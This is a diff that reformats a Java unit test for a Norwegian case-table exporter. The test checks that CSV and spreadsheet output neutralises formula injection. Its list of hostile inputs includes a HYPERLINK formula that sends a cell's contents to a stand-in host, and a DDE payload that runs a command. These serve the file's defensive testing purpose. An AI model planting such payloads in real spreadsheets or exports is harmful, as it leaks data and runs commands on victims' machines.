@@ -20,16 +20,19 @@ import org.junit.jupiter.api.Test;
 class CaseTableTest {
 
     private static final List<String> HOSTILE = List.of(
-            "=HYPERLINK(\"http://ond.example/?\"&A1,\"Trykk her\")", "+1+cmd|'/c calc'!A0", "-1+2", "@SUM(1;2)",
+            "=HYPERLINK(\"http://ond.example/?\"&A1,\"Trykk her\")", "+1+cmd|'/c calc'!A0", "-1+2",
+            "@SUM(1;2)",
             "\t=1+1", "\r=1+1", "\n=1+1", "\0=1+1", " =1+1", "＝1+1", "\u00a0=1+1");
     private static final List<String> HARMLESS = List.of(
-            "Lom", "Sør-Varanger", "a=b", "Gáivuotna – Kåfjord – Kaivuono", "semi;kolon", "«sitat» \"anførsel\"",
+            "Lom", "Sør-Varanger", "a=b", "Gáivuotna – Kåfjord – Kaivuono", "semi;kolon",
+            "«sitat» \"anførsel\"",
             "to\nlinjer", "", "0042", "🎓");
 
     private static CaseTable table(List<String> texts) {
         return new CaseTable("soknader-2027", List.of("Navn", "Antall", "Når"), texts.stream()
                 .map(text -> List.of(Cell.of(text), Cell.of(2_232),
-                        Cell.of(Instant.parse("2027-03-28T01:30:00Z")))).toList());
+                        Cell.of(Instant.parse("2027-03-28T01:30:00Z"))))
+                .toList());
     }
 
     @Test
@@ -39,9 +42,10 @@ class CaseTableTest {
         var harmless = records(table(HARMLESS).csv());
 
         assertThat(hostile).hasSize(HOSTILE.size() + 1);
-        assertThat(hostile.stream().skip(1)).allSatisfy(line ->
-                assertThat(line.getField(0)).startsWith("'").contains("1"));
-        assertThat(harmless.stream().skip(1).map(line -> line.getField(0))).containsExactlyElementsOf(HARMLESS);
+        assertThat(hostile.stream().skip(1))
+                .allSatisfy(line -> assertThat(line.getField(0)).startsWith("'").contains("1"));
+        assertThat(harmless.stream().skip(1).map(line -> line.getField(0)))
+                .containsExactlyElementsOf(HARMLESS);
         assertThat(harmless.get(1).getFields()).containsExactly("Lom", "2232", "2027-03-28 03:30");
     }
 
@@ -64,8 +68,8 @@ class CaseTableTest {
             var sheet = book.getSheet("soknader-2027");
 
             assertThat(sheet.getLastRowNum()).isEqualTo(texts.size());
-            sheet.forEach(row -> row.forEach(cell ->
-                    assertThat(cell.getCellType()).isNotEqualTo(CellType.FORMULA)));
+            sheet.forEach(row -> row
+                    .forEach(cell -> assertThat(cell.getCellType()).isNotEqualTo(CellType.FORMULA)));
             for (int i = 0; i < HOSTILE.size(); i++) {
                 assertThat(sheet.getRow(i + 1).getCell(0).getStringCellValue()).startsWith("'");
             }
@@ -88,6 +92,7 @@ class CaseTableTest {
 
     private static List<CsvRecord> records(byte[] file) {
         var text = new String(file, StandardCharsets.UTF_8).substring(1);
-        return CsvReader.builder().fieldSeparator(';').skipEmptyLines(false).ofCsvRecord(text).stream().toList();
+        return CsvReader.builder().fieldSeparator(';').skipEmptyLines(false).ofCsvRecord(text).stream()
+                .toList();
     }
 }
